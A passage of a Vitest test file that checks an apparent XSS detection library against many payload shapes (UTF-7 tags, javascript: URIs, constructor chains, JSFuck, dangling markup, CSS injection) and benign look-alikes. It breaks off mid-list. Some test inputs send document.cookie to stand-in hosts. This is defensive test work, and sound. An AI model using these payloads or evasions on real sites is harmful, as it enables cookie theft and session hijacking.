// XSS grammar shapes that do not rely on a known sink name: charset-smuggled markup, JS
// entities, data:,< URIs, XML processing instructions and XML Events, CSS-escaped calls,
// JS call shapes (new Function, constructor chains, tagged templates, indexed globals,
// dynamic import) and JSFuck atoms with whitespace. Positives and negatives are written
// from the grammar (not from the corpus); `zz` stands for any function name.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Detector } from '../../src/index.js';
import { detector, ruleIds, expectSameWhenSplit } from './helpers.js';

let d: Detector;
beforeAll(async () => { d = await detector(); });
afterAll(async () => { await d.close(); });

const positives: Array<[string, string]> = [
  // event handler after leading whitespace only
  ['  onqqqq= zz', 'xss.event-handler'],
  ['\tonsomethingnew=zz()', 'xss.event-handler'],
  // UTF-7 and top-bit-set angle brackets
  ['+ADw-script+AD4-zz(1)', 'xss.script-tag'],
  ['+ADw-img src=q onerror=zz(1)+AD4-', 'xss.charset-evasion'],
  ['\u00bcscript\u00bezz(1)\u00bc/script\u00be', 'xss.script-tag'],
  ['\u00bcb\u00behi', 'xss.charset-evasion'],
  // JavaScript entities
  ['<hr width="&{zz()};">', 'xss.js-entity'],
  ['&{zz}', 'xss.js-entity'],
  // data: with no media type followed by markup
  ['data:,<p onclick=zz>', 'xss.js-uri'],
  ['data: , <b>', 'xss.js-uri'],
  ['data:application/xhtml+xml;charset=utf-8,<p>', 'xss.js-uri'],
  // XML processing instructions and XML Events
  ['<?xml-stylesheet type="text/xsl" href="q.xsl"?>', 'xss.dangerous-tag'],
  ['<?xml:namespace prefix=q ns=urn:q>', 'xss.dangerous-tag'],
  ['<q ev:handler="#h" ev:event="click"/>', 'xss.dangerous-tag'],
  // CSS escapes of '('
  ['<p style=w:expression\\28zz\\29>', 'xss.css-expression'],
  ['x:expression\\0028 zz)', 'xss.css-expression'],
  // JS call shapes
  ['new Function("zz()")()', 'xss.js-sink'],
  ['new  Function`zz```', 'xss.js-sink'],
  ['Function(\'zz()\')()', 'xss.js-sink'],
  ['Function`a${"zz()"}```', 'xss.js-sink'],
  ['[].constructor.constructor("zz()")()', 'xss.js-sink'],
  ['{{x.constructor("zz()")()}}', 'xss.js-sink'],
  ['Set.constructor`zz```', 'xss.js-sink'],
  ['zz.call`1`', 'xss.js-sink'],
  ['Reflect.apply.call`${zz}`', 'xss.js-sink'],
  ['self["z"+"z"](1)', 'xss.js-sink'],
  ['top[`zz`]`1`', 'xss.js-sink'],
  ['parent[ \'zz\' ](1)', 'xss.js-sink'],
  ['import("//q.test/m.js")', 'xss.js-sink'],
  ['(prompt)(1)', 'xss.js-sink'],
  ['confirm?.(1)', 'xss.js-sink'],
  ['prompt.call(null,1)', 'xss.js-sink'],
  ['el.innerHTML = q', 'xss.js-sink'],
  // leaving a JS string and calling at once
  ["'-zz(1)-'", 'xss.js-breakout'],
  ['\\";zz();//', 'xss.js-breakout'],
  ["')}; zz(1)", 'xss.js-breakout'],
  ["'}zz(1);{'", 'xss.js-breakout'],
  ["'-zz.yy(1)-'", 'xss.js-breakout'],
  ['"in valueOf=zz', 'xss.js-breakout'],
  ["';location='//q.test'", 'xss.js-breakout'],
  ['btoa(q)', 'xss.js-sink'],
  // JSFuck atoms with whitespace or '+'
  ['(! []+[])[! +[]]', 'xss.js-obfuscation'],
  ['+[]+!![]', 'xss.js-obfuscation'],
];

const negatives = [
  'online store', 'onsale=yes', // (an on* name that starts the value is a parameter name, not an attribute)
  '2 cups ADw- 3', 'model ADW-Form', 'x ADW-set', '\u00bc cup sugar, \u00be cup flour', '\u00bccup',
  'a & {b}', 'R&D {team}', 'q&x{1}',
  'data: none, <br', 'metadata:,<b>', 'data:image/png;base64,iVBORw0KGgo=', 'data:text/csv,a<b',
  '<?xml version="1.0"?><note>x</note>',
  'see the handler: x',
  'expression (x)', 'expression\\n',
  'new function', 'what\'s new? Function(s) and more', 'function (a, b) { return a; }',
  'constructor.prototype', 'the constructor. constructor',
  'call`s me', 'x.call(y)', 'except `.apply` [`f74`]', 'use `Object.prototype.hasOwnProperty.call`', 'deletes `constructor` keys',
  'use `alert` with care', 'alert`',
  'window["title"]', 'self["x"] = 1', 'top[0]',
  'import (and export)', 'import x from y', "app.use(import('./plugin.mjs'))", "@type {import('fastify').Instance}",
  'cost ${ price }', '${name}', '`(${fill(a, b)})`',
  '"Shoes" in stock(3)', '"x" in location', "size 5' in length=3",
  "const id = prefix + '/' + posix(x)", "route('/user(s?)/:id')", '`/foo(+bar)/`', '"<b>" + escapeHtml(name)', '"median "+td.percentile(0.5)',
  "it's -5 (or less)", '"quoted"; then (x)',
  'atob', 'btoa sounds like a name',
  '+ [ ] todo + [ ] done', '! [ ] not done',
];

describe('xss grammar shapes', () => {
  it.each(positives)('%s fires %s', (input, rule) => {
    const r = d.scan(input, { context: 'body' });
    expect(ruleIds(r)).toContain(rule);
    expect(r.blocked).toBe(true);
  });
  it.each(negatives)('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'body' }).blocked).toBe(false);
  });
  it('a query value reads + as a space, so +ADw- also opens a tag after whitespace', () => {
    expect(ruleIds(d.scan('+ADw-script+AD4-', { context: 'query' }))).toContain('xss.script-tag');
  });
  it('findings hold when the shapes arrive split at any byte', () => {
    for (const [input] of positives) {
      const bytes = new TextEncoder().encode(input);
      const whole = d.scan(bytes, { context: 'body' });
      for (let cut = 1; cut < bytes.length; cut++) {
        const s = d.createStream({ context: 'body' });
        s.push(bytes.subarray(0, cut));
        s.push(bytes.subarray(cut));
        expect([input, cut, s.finish()]).toEqual([input, cut, whole]);
      }
    }
  });
});

describe('xss sinks handed to a call, methods only when called', () => {
  // [1].map(alert): a dialog/eval function passed as a call's only argument runs it
  const hits = ['[1].map(alert)', '[7].find(confirm)', 'x.forEach(eval)', 'open(prompt)', "window.open('//a.test')", "document.write('q')", 'document.write`x`'];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['window.open tutorial', 'document.write docs', 'see (alert) below', 'Severity (alert, warning)', 'assert.equal(Eval, EvalError)', 'promise.then(done)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, hits); });
});

describe('xss handler properties assigned in JS', () => {
  // outside a tag, x.onerror = fn is everyday code; assigning a sink to it runs the sink
  const hits = ['window.onerror=alert;throw 1', 'self.onerror = eval', '<img src=x.onerror=alert(1)>', 'onerror=alert;throw 1'];
  it.each(hits)('%s is an event handler', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.event-handler');
  });
  it.each(['button.onclick = handler', 'xhr.onload = e => done(e)', 'worker.onmessage = (ev) => ev.data', 'reader.onerror = fail'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, hits); });
});

describe('xss timers run code unless handed a function written out', () => {
  const hits = ["setTimeout('alert(1)')", 'setTimeout`alert\\x281\\x29`', 'setTimeout(name,1)', 'setInterval(payload, 9)', 'setTimeout(eval,0)',
    'setTimeout(location.hash.slice(1))', 'setTimeout("x"+y)', "setInterval(['al','ert'].join(''))"];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['setTimeout(function () { done() }, 10)', 'setTimeout(() => tick(), 5)', 'setInterval(function(){}, 1000)', 'setTimeout()'])('%s has no xss finding', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((id) => id.startsWith('xss.'))).toEqual([]);
  });
  it('still sees a sink inside the callback', () => {
    expect(d.scan('setTimeout(function(){alert(1)})', { context: 'query' }).blocked).toBe(true);
    expect(d.scan('setTimeout(()=>alert(1))', { context: 'query' }).blocked).toBe(true);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'setTimeout(() => tick(), 5)']); });
});

describe('xss tag names end at whitespace, / or >', () => {
  // a list or escape character glued to the name continues it: no tag (generics, escaped brackets in prose)
  const hits = ['<object data=x>', '<svg/onload=x()>', '<script>', '<iframe', '<embed src=//a.test>', '<xi:include href=x>'];
  it.each(hits)('%s is still a tag', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.length).toBeGreaterThan(0);
  });
  it.each(['WeakMap<object, Entry | boolean>', '- `options` __\\<object\\>__ - optional', 'Map<svg|math>', 'f(<style)', 'List<iframe>'.replace('>', ']'), '- `parents` __\\<object[]\\>__ - the list'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'WeakMap<object, T>', '\\<object\\>']); });
});

describe('xss sink handed to a call as its last argument', () => {
  const hits = ["';[].find.call([1],alert)//", "window.addEventListener('error', alert)", 'x.then(null,alert)', 'f(a, b(c), confirm)'];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  // a list in parentheses that no name calls, or a sink that is not the last argument
  it.each(['(info, warning, alert)', 'Levels (debug, alert)', 'f(alert, x)', 'f(a, (alert))'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, '(info, warning, alert)']); });
});

describe('xss sink alone in an array literal, indexed and called', () => {
  const hits = ["';[alert][0](1)//", '[confirm][0](1)', "<svg onload=[alert]['0'](1)>"];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['[ALERT] disk full', '[alert][1]: see notes', '[alert]', 'levels: [debug, alert][0]'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, hits); });
});

describe('xss sink called by another name', () => {
  // assigned to a name and called by it (x=alert;x(1)), or to a conversion the engine calls by itself (valueOf=alert)
  const hits = ['x=alert;x(1)', 'a=alert,a(1)', "valueOf=alert;window+''", "toString=confirm;top+''", '<svg onload=f=prompt,f(1)>'];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['level=alert,warning', 'type=alert;page=2', 'x.valueOf = fn', 'the toString = method', 'valueOf=1'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'level=alert,warning']); });
});

describe('xss sink handed to apply/call/bind', () => {
  const hits = ['Reflect.apply(alert,null,[1])', 'Function.prototype.call.call(confirm,null,1)', 'x.bind(eval)'];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['fn.apply(this, args)', 'obj.call(confirmed)', 'f.apply(prompt_text)'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, hits); });
});

describe('xss sink assigned right after leaving a JS string', () => {
  const hits = ["';x=alert;x(1)//", "'-y=prompt-'", "x'; mode=alert"];
  it.each(hits)('%s is a js breakout', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-breakout');
  });
  it.each(["it's;x=alert me", 'type=alert', "a';b=c", "level='alert'"])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, hits); });
});

describe('xss sinks named in prose are not calls', () => {
  // An empty call or a property followed by a space and a word reads as a name in a sentence;
  // anything else after it (punctuation, the end of the value, a word glued on) is code.
  const hits = ['alert()', 'alert();', "';alert()//", 'alert() </script>', 'alert().then(x)', 'x=alert()+1', 'alert()x',
    'document.cookie', 'x=document.cookie;', 'document.cookie+1', '"+document.cookie+"', 'document.cookie //', 'alert( x) y'];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['The alert() function shows a dialog', 'What does eval() do in Python?', 'alert(): shows a dialog', 'alert(), confirm() and prompt() block the page',
    'document.cookie policy: essential cookies only', 'Is document.cookie  readable here?',
    'alert(x) is fun'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('spans the call as far as it was read', () => {
    const r = d.scan('x=alert();', { context: 'query' });
    expect(r.threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 2, length: 7 }); // alert()
    expect(d.scan('alert(1)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 6 }); // alert(
    expect(d.scan('alert(x)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 6 });
    expect(d.scan('alert(1) is fun; alert();', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 17, length: 7 }); // alert() (not the older call's '(')
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'The alert() function shows a dialog', 'document.cookie policy']); });
});

describe('a script scheme in prose runs nothing', () => {
  // The scheme is reported by the first sign of code after its ':' or by the end of the value;
  // words and sentence punctuation to the end of the value are a sentence about it.
  const hits = ['javascript:', 'javascript:x', 'javascript: alert(1)', 'javascript:\nalert(1)', 'javascript: //%0aalert(1)', "javascript: top['al'+'ert'](1)",
    'javascript: document.cookie', 'javascript: x=1', 'javascript: ', 'vbscript: msgbox 1 "x"', 'go to javascript: location=1'];
  it.each(hits)('%s is a js uri', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-uri');
  });
  it.each(['javascript: the good parts is a great book', 'the javascript: protocol is deprecated, use handlers.', 'Languages: javascript: yes, python: no!'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-uri');
  });
  it('spans the scheme and its colon, as when it was reported at once', () => {
    expect(d.scan('x javascript: alert(1)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-uri')).toMatchObject({ offset: 2, length: 11 });
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'javascript: the good parts is a great book']); });
});

describe('xss global indexed by a computed name, then called', () => {
  // the name built from regex literals' text or a number written in radix 30/36 (top[8680439..toString(30)] is top['alert'])
  const hits = ['top[/al/.source+/ert/.source](1)', 'self[/pro/.source+/mpt/.source](1)', 'top[8680439..toString(30)](1)', 'window[1558153217..toString(36)]()',
    "[alert][0].call(this,1)", "window['alert'].call(null,1)"];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['frames[0].location', 'string[0].toUpperCase()', 'this[0].focus()', 'top[1] of the list (see notes)', 'window[/x/]', "window['app'].init(1)", '[alert][0].value'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'string[0].toUpperCase()']); });
});

describe('xss sink as the last value of an object literal', () => {
  // a getter, conversion or handler the engine calls by itself
  const hits = ["Object.defineProperty(window,'x',{get:alert});x", "({toString:prompt})+''", '{valueOf: confirm}'];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(['(note:alert)', '{"level":"alert"}', 'type: alert, warning', '{alert}', '{level:alert,info}'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, '(note:alert)']); });
});

describe('xss DOM lookups read the page; writing what they found counts', () => {
  const hits = ['document.querySelector("p").textContent="x"', "document.getElementById('a').href='//x.test'", "document.getElementById('d').innerHTML=x"];
  it.each(hits)('%s is a js sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it.each(["document.querySelector('#total')", "document.getElementById('x')", "document.querySelector('#total').textContent returns an empty string",
    'use document.getElementsByClassName'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, "document.getElementById('x')"]); });
});

describe('xss quotes of an attribute value the tag itself opened', () => {
  // a quote after '=' opens the value and its twin closes it: '>' after it ends the tag, no breakout, and a
  // word inside the value (src="...?style=flat") is no attribute name
  const hits: Array<[string, string]> = [['"><b>x', 'xss.attribute-breakout'], ["x' ><i>", 'xss.attribute-breakout'], ['<a title="x"></a>"><b>', 'xss.attribute-breakout'],
    ['<div title="" style="x:y{}">', 'xss.style-attribute'], ['<img src=x" style=x:url(//y)>', 'xss.style-attribute'], ["<a href='x' style='color:red;position:fixed'>", 'xss.style-attribute']];
  it.each(hits)('%s reports %s', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
  });
  it.each(['<a name="start"></a>', '<a title=\'it"s\'><b>x</b></a>', '<p class="x"><b>y</b></p>'])('%s is no breakout', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.attribute-breakout');
  });
  it.each(['<img src="https://img.shields.io/x?style=flat">', "<a href='/x?style=dark'>x</a>"])('%s has no style attribute', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.style-attribute');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits.map(([s]) => s), '<a name="start"></a>', '<img src="https://img.shields.io/x?style=flat">']); });
});

describe('xss names in code and prose that only look like handlers, schemes and sinks', () => {
  // an on* name no list knows: outside a tag a handler only with '=' glued to it (const onMatch = ... declares a name);
  // a scheme after a word with nothing after its ':' ends a sentence; a backtick right after alert() or document.cookie
  // closes a code span (template text), so the name is quoted, not run
  const hits: Array<[string, string]> = [['x onnewevent=1', 'xss.event-handler'], ['<x onnewthing = 1>', 'xss.event-handler'],
    ['In JavaScript:alert(1)', 'xss.js-uri'], ['In JavaScript: alert(1)', 'xss.js-uri'], ['javascript:', 'xss.js-uri'], ['a javascript:x', 'xss.js-uri'],
    ['x=`${document.cookie}`', 'xss.js-sink'], ["fetch('//x?'+document.cookie)", 'xss.js-sink'], ['alert(`1`)', 'xss.js-sink']];
  it.each(hits)('%s reports %s', (input, rule) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
  });
  it.each(['const onMatch = ({ glob }) => {', "var onFinished = require('on-finished')", 'In JavaScript:', 'It is also very useful with Mocha:',
    'JavaScript to see the cookie in `document.cookie`.', 'call `alert()` to debug'])('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.ruleId.startsWith('xss.'))).toEqual([]);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits.map(([s]) => s), 'const onMatch = 1', 'In JavaScript:', 'see `document.cookie`.']); });
});

describe('xss behavior: and binding: bind code through url()', () => {
  const hits = ['<p style="behavior:url(#default#time2)">', 'x{behaviour: url(a.htc)}', 'binding:  url(//x.test/x.xml#b)'];
  it.each(hits)('%s is a css expression', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.css-expression');
  });
  it.each(['The following diagrams show the different stages of this behavior:', 'data binding: two-way', 'Behavior: expected output'])('%s stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.css-expression');
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'stages of this behavior:']); });
});

// Session 19 (held-out stand-in): a word glued before '-binding' was reported at once, the name alone ("two-way
// data-binding in Angular"); the name binds nothing without its ':' and url(, which now report it, a CSS comment
// before or after the ':' skipped (the CSS parser drops it), as for behavior:.
describe('xss behavior: and binding: — comments in the wait, the name alone is prose', () => {
  const hits = ['p{-moz-binding/**/:url(//x.test/b.xml#q)}', '-moz-binding:/* c */url(b.xml#q)', 'behavior/**/:url(a.htc)',
    'x{behaviour:/*a*b**/url(a.htc)}', '-moz-binding/* <i> */:/**/url(q)', 'BINDING /**/ : /**/ URL(q)'];
  it.each(hits)('%s is css-expression', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.css-expression');
  });
  const clean = ['two-way data-binding in Angular', 'Use model-binding for forms', 'the -moz-binding property is gone',
    'see data-binding/*.md for docs', 'behavior/* notes */ changed', 'binding /* not */ broken'];
  it.each(clean)('%s stays clean', (input) => {
    expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
  });
  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
});

describe('xss: a style attribute holding declarations only', () => {
  // what rich-text editors write passes (the tag alone scores below the threshold); injected CSS, an overlay or
  // a value left open reports the attribute as before
  const clean = ['<span style="color: red">warning</span>', '<p style="font-family: \'Open Sans\', sans-serif; color: rgb(0, 0, 0); width: 50%">x</p>',
    '<div style=color:red>x</div>', '<td style="text-align:center;font-weight:bold !important">1</td>', '<p style="font: 12px/1.5 Arial; margin: 0 auto">x</p>',
    '<div style="background:url(/img/banner.png) no-repeat">x</div>', "<td style=\"background-image:url('bg.jpg');width:50%\">1</td>",
    '<p style=background:url(../i/x.gif?v=2)>x</p>', "<p style=\"a:url('./img/../a-1.png')\">x</p>", '<p style="list-style-image:url(img/dot-1.png)">x</p>'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.style-attribute');
    expect(r.blocked).toBe(false);
  });
  const hits = ['<div style="position:fixed;top:0;left:0;width:100%;height:100%">', "<p style=\"font-family:'a[b]'\">", '<b style=width:1px{}>',
    '<p style="color:red', '<x style="background:url(\'//x\')">', '<x style="background:url(https://q.test/a.png)">', '<x style=a:url(/a.svg)>',
    '<x style="a:url(javascript:zz(1))">', "<x style=\"a:url('data:image/png,q')\">", '<x style="a:url(/a.png);behavior:url(b.htc)">', '<x style="a:url(/a b.png)">',
    '<x style="a:url(\'/a.png\\\')">', '<x style="a:url(/a.png">', '<x style="a:url (/a.png)">', '<x style="a:url(/r?u=//q.test/p.gif)">', "<x style=\"a:url('/r?u=//q.test')\">", '<div style="width:1px;\nheight:2px">', '<i style="a:b/*c*/">', "<p style=\"x:5'a'\">"];
  it.each(hits)('%s reports the style attribute', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.style-attribute');
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
});

describe('xss: dangling markup (a tag whose single-quoted attribute value is still open at the end)', () => {
  // the browser reads the page after the value into the attribute up to the next ' and sends it with the URL;
  // a value left open with " (pages quote their own attributes that way) is as often a field cut short
  const hits = ["<img src='//q.test/log?h=", "<qq background='//q.test/?", "<base target='", "\"><meta http-equiv=refresh content='0;url=//q.test/?"];
  it.each(hits)('%s is blocked as dangling markup', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain('xss.dangling-markup');
    expect(r.blocked).toBe(true);
  });
  const clean = ['<a href="https://example.com/watch?v=', "<img src='a.png' alt='it's me'>", "<b title='x'>y</b>", "it's <b>bold</b>, isn't it", "<p title=it's"];
  it.each(clean)('%s is no dangling markup', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.dangling-markup');
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
});

describe('xss: a dialog call with a number, and an empty string written to innerHTML, named in prose', () => {
  // zz(1) is held as zz() is: a space and a word after it is prose; anything else (or the end) runs it.
  // el.innerHTML = '' writes no markup; any other value (a name, a string with content) is reported as before
  const clean = ['my alert(1) test works in the console', 'prompt(42) returns the text', "element.innerHTML = '' clears the list", 'el.innerHTML="" is fast', 'el.outerHTML = `` then'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.js-sink');
    expect(r.blocked).toBe(false);
  });
  const hits = ['alert(1)', 'alert(1) //', 'confirm(1)x', 'alert(1);x', 'alert(1', "el.innerHTML = q", "el.innerHTML='<b>'", 'el.innerHTML = "x"', "el.innerHTML='", 'el.innerHTML =', "el.innerHTML=''%2Bq", 'el.innerHTML = "" %2B q', '<qq onerror=alert(1) src=a>'];
  it.each(hits)('%s reports the sink', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
});

describe('xss: CSS injected into a style sheet that loads from another site', () => {
  // a '}' closing a rule the value never opened, a '{' opening a new one, then url() (where CSS writes it) to //host or http(s)://host
  const hits = ['}*{background:url(//q.test/a)}', "';}qq[value^=a]{background-image:url('https://q.test/a')}", '}q{@import url(//q.test/a.css)}',
    '} q { a: b, url( "http://q.test/x") }'];
  it.each(hits)('%s is a css injection', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain('xss.css-expression');
    expect(r.blocked).toBe(true);
  });
  const clean = ['.hero{background:url(/img/banner.jpg) no-repeat center}', 'a{b:url(//q.test/x)}', '}*{background:url(/img/x.png)}', "} else { x = 'url(//q.test/a)' }",
    '@font-face{font-family:Roboto;src:url(https://fonts.q.test/r.woff2)}', '} q {background:url (//q.test)}', '}{q:url(http)}'];
  it.each(clean)('%s is no css injection', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.css-expression');
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
});

describe('xss: a form action or htmx request attribute pointing to another site', () => {
  // a form is an ordinary tag now; its action (or hx-get hx-post hx-put hx-patch hx-delete) sending to //host or
  // http(s)://host is a phishing form or markup fetched from the attacker into the page
  const hits = ['<form action=//q.test/login><input name=p type=password>', '<form action = "https://q.test/">', '<qq hx-get="//q.test/x" hx-trigger=load>',
    '<qq data-hx-post=http://q.test/a>', "<form method=post action='HTTPS://q.test'>", '<qq hx-delete="//q.test">'];
  it.each(hits)('%s is blocked as a dangerous tag', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).toContain('xss.dangerous-tag');
    expect(r.blocked).toBe(true);
  });
  const clean = ['<form action="/search" method="get"><input name="q"><button>Search</button></form>', '<qq hx-get="/search" hx-trigger="keyup">',
    '<a href="/x?action=//q">', '<input value="action=//q">', 'action=//q.test', '<form action=/a//b>', '<qq hx-target="//q">', '<qq hx-get=httpx://q>'];
  it.each(clean)('%s is no dangerous tag', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.dangerous-tag');
    expect(r.blocked).toBe(false);
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...hits, ...clean]); });
});

describe('xss: a member of a held property stays held', () => {
  // location.hash.slice(1) and document.cookie.length named in a sentence (a space and a word after them) are prose;
  // anything else after the member or its call reports the property, spanned as the property
  const clean = ['location.hash.slice(1) gives me the anchor', 'document.cookie.length is zero in Safari', 'document.cookie. Then it is gone',
    'location.search.substring(1) returns the query'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.js-sink');
    expect(r.blocked).toBe(false);
  });
  const hits = ["document.cookie.split(';')", 'location=location.hash.slice(1)', "fetch('//q?'+document.cookie.slice(1))", 'document.cookie.length',
    'x(document.cookie.length)', 'document.cookie.zz(q) is', 'document.cookie.slice(1)+1', "document.body.innerHTML = ''", 'window.location.href'];
  it.each(hits)('%s reports the property', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
  });
  it('spans the property', () => {
    expect(d.scan("document.cookie.split(';')", { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-sink')).toMatchObject({ offset: 0, length: 15 });
  });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, [...clean, ...hits]); });
});

describe('xss: a dialog or eval call with a name or a string as its argument, named in a sentence', () => {
  // alert(msg) prompt("Name?") eval(s) followed by a space and a word: two names in a row are no JavaScript, so the
  // call never runs (round 8). The argument is read to its ')' (three levels of parentheses); a name inside it that
  // reaches the page or runs code, punctuation a sentence does not use, the end of the value, a comment, a newline,
  // ';' or the operators in / instanceof followed by one name (alert(x) in window) report the call as before.
  const clean = ['alert(msg) shows a popup', "alert('Saved!') after the form submits", 'prompt("Name?") returns null when cancelled',
    'I use confirm("Delete this row?") before deleting rows', 'JSON.parse(text) instead of eval(text), please', 'eval(input()) is flagged by my teacher',
    'window.alert("Hello") works in Chrome', 'String.fromCharCode(65) gives "A"', "atob('SGVsbG8=') decodes to Hello",
    'eval(s) is safer with a whitelist', 'zz eval(x) in R evaluates it', 'confirm("<b>sure?</b>") opens a dialog'];
  it.each(clean)('%s is allowed', (input) => {
    const r = d.scan(input, { context: 'query' });
    expect(ruleIds(r)).not.toContain('xss.js-sink');
    expect(r.blocked).toBe(false);
  });
  const hits = ['eval(name)', 'eval(name)//then words', 'eval(name)\nwhile nobody looks', 'alert(msg) in window', "'-alert(origin) in self-'",
